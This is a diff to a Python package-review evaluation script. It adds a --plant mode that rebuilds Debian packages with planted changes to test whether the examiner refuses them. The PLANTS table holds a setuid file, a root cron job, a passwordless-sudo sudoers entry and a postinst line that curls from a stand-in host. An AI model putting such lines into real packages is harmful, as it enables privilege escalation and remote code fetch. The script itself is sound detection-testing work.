@@ -6,6 +6,9 @@ For each source package that has two versions in the archive (the suite and its 
 drawn; the older version is compared with the newer one. Both come by `apt-get download` into --cache and are kept there. An alarm
 is a pair with a concern that policy wants reviewed or refused. --show prints each alarm.
 
+--plant N rebuilds the newer package of N of the pairs (with dpkg-deb) with a silent change in it, each of PLANTS in turn, and counts
+how many are refused.
+
 --list takes the pairs from a JSON file instead ({name: [[{name, version, architecture}, {…}], …]}), --set one of its names.
 """
 
@@ -16,6 +19,7 @@ import json
 import random
 import subprocess
 import sys
+import tempfile
 import time
 from collections import Counter, defaultdict
 from functools import cmp_to_key
@@ -27,8 +31,14 @@ from suture.inventory.debian_version import compare
 from suture.settings import Settings
 from suture.sourcing.analysis.deb import package_file
 from suture.sourcing.analysis.notes import NAME, examine
-from suture.sourcing.examination import Action, Subject, load_policy
+from suture.sourcing.examination import Action, Actions, Subject, load_policy
 
+PLANTS = {
+    "undeclared_setuid": ("usr/bin/helper-x", 0o4755, "x"),
+    "undeclared_scheduled_task": ("etc/cron.d/housekeeping-x", 0o644, "* * * * * root true\n"),
+    "undeclared_privilege_file": ("etc/sudoers.d/50-x", 0o440, "x ALL=(ALL) NOPASSWD: ALL\n"),
+    "undeclared_network_in_script": ("DEBIAN/postinst", 0o755, "curl -fsS https://x.invalid/y -o /tmp/y || true\n"),
+}
 Pair = tuple[str, str, str, str]  # name, architecture, old version, new version
 
 
@@ -41,11 +51,14 @@ def main() -> int:
     parser.add_argument("--set", default="")
     parser.add_argument("--most-mb", type=float, default=25, help="leave out packages larger than this")
     parser.add_argument("--json", type=Path)
+    parser.add_argument("--plant", type=int, default=0)
     parser.add_argument("--show", action="store_true")
     args = parser.parse_args()
     pairs = _listed(args.list, args.set) if args.list else _from_apt(args.most_mb * 1e6)
     random.Random(args.seed).shuffle(pairs)  # noqa: S311  # a sample, no secret
     actions = load_policy(Settings.load().policy_dir).actions
+    if args.plant:
+        return _plant(args.cache, pairs, args.plant, actions)
     verdicts: Counter[str] = Counter()
     kinds: dict[str, Counter[str]] = defaultdict(Counter)
     rows: list[dict[str, Any]] = []
@@ -84,6 +97,44 @@ def main() -> int:
         print(f"  seconds a pair: median {seconds[len(seconds) // 2]:.2f}, largest {seconds[-1]:.2f}")
     if args.json:
         args.json.write_text(json.dumps(rows, indent=1))
+    return 0
+
+
+def _plant(cache: Path, pairs: list[Pair], wanted: int, actions: Actions) -> int:
+    """How many silently changed packages are refused for what was planted."""
+    caught: Counter[str] = Counter()
+    tried: Counter[str] = Counter()
+    for name, architecture, old, new in pairs:
+        paths = [_file(cache, name, version, architecture) for version in (old, new)]
+        if paths[0] is None or paths[1] is None or paths[1].stat().st_size > 2e6:
+            continue
+        kind = list(PLANTS)[tried.total() % len(PLANTS)]
+        place, mode, text = PLANTS[kind]
+        with tempfile.TemporaryDirectory() as folder:
+            root, built = Path(folder) / "root", Path(folder) / paths[1].name
+            subprocess.run(["dpkg-deb", "-R", str(paths[1]), str(root)], check=True)
+            target = root / place
+            before = target.read_text("utf-8", "replace") if target.exists() else ""
+            if before and not before.startswith(("#!/bin/sh", "#! /bin/sh", "#!/bin/bash")):
+                continue
+            target.parent.mkdir(parents=True, exist_ok=True)
+            head, _, rest = before.partition("\n") if before else ("#!/bin/sh", "", "")
+            target.write_text(f"{head}\n{text}{rest}" if place.startswith("DEBIAN") else text)
+            target.chmod(mode)
+            command = ["dpkg-deb", "-Zgzip", "-z1", "--root-owner-group", "-b", str(root), str(built)]
+            subprocess.run(command, check=True, capture_output=True)
+            found = examine(Subject(package_file(built), package_file(paths[0])))
+        tried[kind] += 1
+        is_caught = any(c.kind == kind and actions.of(NAME, c.kind) is Action.REFUSE for c in found.concerns)
+        caught[kind] += is_caught
+        if not is_caught:
+            print(f"MISSED {kind} in {name} {new}: {[c.kind for c in found.concerns]}")
+        if tried.total() >= wanted:
+            break
+    print(
+        f"planted {tried.total()}, refused for it {caught.total()}: "
+        + ", ".join(f"{k} {caught[k]}/{tried[k]}" for k in tried)
+    )
     return 0
 
 
